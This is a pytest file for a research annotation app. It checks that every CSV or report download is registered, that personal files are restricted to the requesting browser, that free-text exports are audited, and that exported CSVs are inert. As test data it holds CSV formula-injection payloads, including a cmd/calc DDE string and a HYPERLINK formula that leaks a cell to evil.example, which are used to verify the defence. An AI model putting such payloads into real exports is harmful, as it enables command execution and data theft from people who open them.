"""Every download the app offers is listed and classified (issue 32, `annotate/app/downloads.py`).

The app's source is scanned: a `download_button` anywhere but the one helper, a download the
list does not name, a listed download no page offers, or a grid (`st.dataframe`,
`st.data_editor`) the list does not count fails here, so a new download cannot go unclassified.
Then each classification is checked on the real entry script (AppTest): a personal file is
granted to the browser that asked (its address refused to any other), the report is not; every
CSV is checked to be inert, and the ratings download holds no free text, which is a download of
its own, audited.
"""

from __future__ import annotations

import ast
import io
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest
from sqlmodel import col, select

from annotate.app import downloads as registry
from annotate.app.downloads import DOWNLOADS, GRIDS, FormulaInCsv, check_inert_csv
from annotate.app.private_downloads import GRANTS, digest
from annotate.cli.server import PRODUCTION_OPTIONS, streamlit_command
from annotate.db import write_session
from annotate.db.tables import Assignment, AuditEntry
from annotate.services.results.reporting import FREE_TEXT_DOWNLOADED
from tests.helpers.apptest_helpers import researcher_token

APP = Path(registry.__file__).resolve().parent
GRID_CALLS = {"dataframe", "data_editor"}


def _trees() -> dict[str, ast.Module]:
    """Module name -> its parsed source, for every module of the app."""
    return {
        "annotate." + ".".join(path.relative_to(APP.parent).with_suffix("").parts): ast.parse(
            path.read_text(encoding="utf-8")
        )
        for path in sorted(APP.rglob("*.py"))
    }


def _calls(trees: dict[str, ast.Module] | None = None) -> list[tuple[str, ast.Call]]:
    """(module, call) for every call in the app's source (`trees`: parsed already)."""
    return [
        (module, node)
        for module, tree in (trees or _trees()).items()
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
    ]


def _name(call: ast.Call) -> str:
    func = call.func
    return func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")


def _literal_names(tree: ast.Module, call: ast.Call, module: str) -> list[str]:
    """The download names an `offer_download` call offers: its literal name, or (a parameter of
    the function around it) the literals every call of that function in the module passes."""
    argument = call.args[1] if len(call.args) > 1 else None
    if isinstance(argument, ast.Constant):
        return [argument.value]
    assert isinstance(argument, ast.Name), f"{module}: offer_download needs a name"
    function = next(
        f for f in ast.walk(tree) if isinstance(f, ast.FunctionDef) and call in ast.walk(f)
    )
    position = [a.arg for a in function.args.args].index(argument.id)
    passed = [
        c.args[position]
        for c in ast.walk(tree)
        if isinstance(c, ast.Call) and _name(c) == function.name
    ]
    assert passed, f"{module}: {function.name} is never called"
    for value in passed:
        assert isinstance(value, ast.Constant), f"{module}: {function.name} needs a literal name"
    return [v.value for v in passed if isinstance(v, ast.Constant)]


def test_every_download_button_goes_through_the_one_helper_with_a_listed_name():
    trees = _trees()
    calls = _calls(trees)
    direct = [m for m, c in calls if _name(c) == "download_button" and m != registry.__name__]
    assert direct == [], "a download_button outside annotate.app.downloads: offer_download it"
    names = []
    for module, call in calls:
        if _name(call) == "offer_download":
            names += _literal_names(trees[module], call, module)
    unlisted = sorted(set(names) - set(DOWNLOADS))
    assert unlisted == [], f"downloads not in DOWNLOADS: {unlisted}"
    assert sorted(set(names)) == sorted(DOWNLOADS), "a listed download no page offers"


def test_every_grid_is_counted_and_grids_offer_no_download_of_their_own():
    counted = Counter(m for m, c in _calls() if _name(c) in GRID_CALLS)
    assert dict(counted) == GRIDS, "a grid was added or removed: update GRIDS"
    assert PRODUCTION_OPTIONS["client.disableDataExport"] == "true"
    command = streamlit_command(8501)
    assert command[command.index("--client.disableDataExport") + 1] == "true"


def test_a_csv_holding_a_formula_is_never_offered():
    inert = b"a,b,c\r\n'=1+1,-2,-0.5\r\n'-1+1,+3,1e-05\r\n"  # numbers are numbers
    assert check_inert_csv(inert) == inert
    for cell in ("=1+1", "\t=1+1", " @SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\x00+1", " -1"):
        data = pd.DataFrame({"text": [cell]}).to_csv(index=False).encode()
        with pytest.raises(FormulaInCsv, match="row 2, column 1"):
            check_inert_csv(data)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def commented(rated_demo, engine):
    """The rated demo with one comment written to be a formula and to hold an e-mail address."""
    with write_session(engine) as session:
        assignment = session.exec(
            select(Assignment).where(col(Assignment.status) == "done").limit(1)
        ).one()
        assignment.comment = f"\t{HOSTILE} write to jo@example.org"
    return rated_demo


def test_personal_downloads_are_granted_and_the_free_text_is_its_own_audited_download(
    open_app, commented, engine, downloads
):
    open_app(researcher_token(engine), pick="demo")
    ratings = downloads["demo_ratings.csv"]()
    assert GRANTS.is_personal(digest(ratings))  # its address answers only its browser
    assert not GRANTS.allows(digest(ratings), "another-browser")
    table = pd.read_csv(io.BytesIO(ratings), keep_default_na=False)
    assert "comment" not in table.columns
    assert not any("jo@example.org" in str(v) for v in table.to_numpy().ravel())
    report = downloads["demo_report.md"]()
    assert not GRANTS.is_personal(digest(report))  # aggregates: served as before
    with write_session(engine) as session:
        before = len(session.exec(select(AuditEntry)).all())
    text = downloads["demo_free_text.csv"]()
    assert GRANTS.is_personal(digest(text))
    free = pd.read_csv(io.BytesIO(text), keep_default_na=False)
    assert list(free.columns[:2]) == ["pair_id", "annotator"]
    (comment,) = [c for c in free["comment"] if c]
    assert comment == f"'\t{HOSTILE} write to jo@example.org"  # inert, as typed otherwise
    with write_session(engine) as session:
        entries = session.exec(select(AuditEntry).order_by(col(AuditEntry.id))).all()
    assert len(entries) == before + 1
    assert entries[-1].action == FREE_TEXT_DOWNLOADED
    assert entries[-1].who == "res"
    assert entries[-1].after["rows"] == 1
    assert "comment" in entries[-1].after["fields"]
